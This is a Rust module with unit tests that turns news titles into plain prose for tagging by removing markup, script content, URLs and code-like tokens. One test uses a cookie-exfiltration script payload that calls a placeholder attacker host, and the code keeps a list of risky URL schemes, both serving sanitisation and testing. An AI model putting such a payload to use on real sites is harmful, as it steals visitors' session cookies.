//! Prose for tagging: what is left of a title or text once markup, URLs and
//! code-like tokens are taken out, so that no tag is ever built from them
//! (`#ScriptFetchHttp` from an escaped `<script>` in a feed title).
//!
//! Text reaching enrichment is already plain text, but a publisher can
//! escape markup twice, paste code into a title, or end a paragraph with a
//! URL. Each such span becomes a sentence break, so that no phrase or
//! entity pair bridges it.

use std::borrow::Cow;

/// What replaces a removed span: a break that ends any phrase.
const BREAK: &str = " . ";

/// `s` as prose: markup spans (`<script>…</script>` with their content),
/// URLs and code-like tokens replaced by breaks. Borrowed when there is
/// nothing to take out, which is the common case.
pub fn prose(s: &str) -> Cow<'_, str> {
    if !s.split_whitespace().any(is_code_like) && !s.contains('<') {
        return Cow::Borrowed(s);
    }
    let without_markup = strip_markup(s);
    let mut out = String::with_capacity(without_markup.len());
    for (i, token) in without_markup.split_whitespace().enumerate() {
        if i > 0 {
            out.push(' ');
        }
        if is_code_like(token) {
            out.push_str(BREAK.trim());
        } else {
            out.push_str(token);
        }
    }
    Cow::Owned(out)
}

/// Elements whose content is code, dropped with their tags.
const CODE_ELEMENTS: &[&str] = &["script", "style"];

/// `s` without anything that looks like a tag (`<b>`, `</p>`, `<img …/>`),
/// and without the content of script and style elements.
fn strip_markup(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(lt) = rest.find('<') {
        out.push_str(&rest[..lt]);
        let after = &rest[lt + 1..];
        let starts_tag = after.starts_with(|c: char| c.is_ascii_alphabetic() || c == '/' || c == '!');
        let Some(gt) = after.find('>').filter(|_| starts_tag) else {
            // A lone '<' ("a < b") is prose.
            out.push('<');
            rest = after;
            continue;
        };
        out.push_str(BREAK);
        let name: String =
            after.chars().take_while(|c| c.is_ascii_alphanumeric()).collect::<String>().to_ascii_lowercase();
        rest = &after[gt + 1..];
        if CODE_ELEMENTS.contains(&name.as_str()) {
            let close = format!("</{name}");
            rest = match find_ascii_ci(rest, &close) {
                Some(end) => rest[end..].find('>').map_or("", |g| &rest[end + g + 1..]),
                None => "",
            };
        }
    }
    out.push_str(rest);
    out
}

/// The byte offset of `needle` (ASCII) in `hay`, ignoring ASCII case.
fn find_ascii_ci(hay: &str, needle: &str) -> Option<usize> {
    let (h, n) = (hay.as_bytes(), needle.as_bytes());
    (0..h.len().saturating_sub(n.len() - 1)).find(|&i| h[i..i + n.len()].eq_ignore_ascii_case(n))
}

/// URL schemes whose appearance makes a token a URL.
const SCHEMES: &[&str] = &["http:", "https:", "ftp:", "javascript:", "data:", "vbscript:", "mailto:", "file:"];

/// Whether a whitespace-separated token is a URL, markup residue or code,
/// rather than a word of prose (punctuation around words is prose).
pub fn is_code_like(token: &str) -> bool {
    let word = token.trim_start_matches(|c: char| !c.is_alphanumeric());
    if word.is_empty() {
        return false; // punctuation alone: "<", "--"
    }
    let starts_with = |p: &str| word.get(..p.len()).is_some_and(|w| w.eq_ignore_ascii_case(p));
    if token.contains("://") || starts_with("www.") || SCHEMES.iter().any(|s| starts_with(s)) {
        return true;
    }
    let core = token.trim_end_matches(['.', ',', ';', ':', '!', '?', ')', '"', '\'', '\u{201d}', '\u{2019}']);
    if core.contains(['<', '>', '{', '}', '=', '`', '\\', '|', '_', ';']) {
        return true;
    }
    let b = core.as_bytes();
    // A call ("alert(1)", "fetch('x')").
    let call = b.windows(2).any(|w| w[0].is_ascii_alphanumeric() && w[1] == b'(');
    // A member or host name ("document.cookie", "evil.example"), not an
    // abbreviation ("e.g", "U.S").
    let member = b.windows(5).any(|w| {
        w[0].is_ascii_lowercase()
            && w[1].is_ascii_lowercase()
            && w[2] == b'.'
            && w[3].is_ascii_lowercase()
            && w[4].is_ascii_lowercase()
    });
    call || member
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ordinary_prose_is_borrowed_unchanged() {
        let s = "China and Kazakhstan (AP) signed a deal; the U.S. said \"no\" - e.g. in 2024.";
        assert!(matches!(prose(s), Cow::Borrowed(_)));
    }

    #[test]
    fn issue_14_escaped_script_in_a_title_leaves_no_words() {
        let t = prose("<script>fetch('http://evil.example/x?c='+document.cookie)</script> Floods hit Valencia");
        assert!(!t.contains("fetch") && !t.contains("script") && !t.contains("cookie"), "{t}");
        assert!(t.contains("Floods hit Valencia"), "{t}");
    }

    #[test]
    fn issue_14_urls_and_code_tokens_become_breaks() {
        let t = prose("Read more at https://example.com/a or www.example.org and call alert(1) now");
        assert!(!t.contains("example") && !t.contains("alert"), "{t}");
        assert!(t.contains("Read more at") && t.contains("now"), "{t}");
    }

    #[test]
    fn a_lone_less_than_sign_is_prose() {
        assert_eq!(prose("inflation < 2% this year"), "inflation < 2% this year");
    }

    #[test]
    fn tags_are_dropped_but_their_text_kept() {
        assert_eq!(prose("<b>Bold</b> move"), ". Bold . move");
    }
}
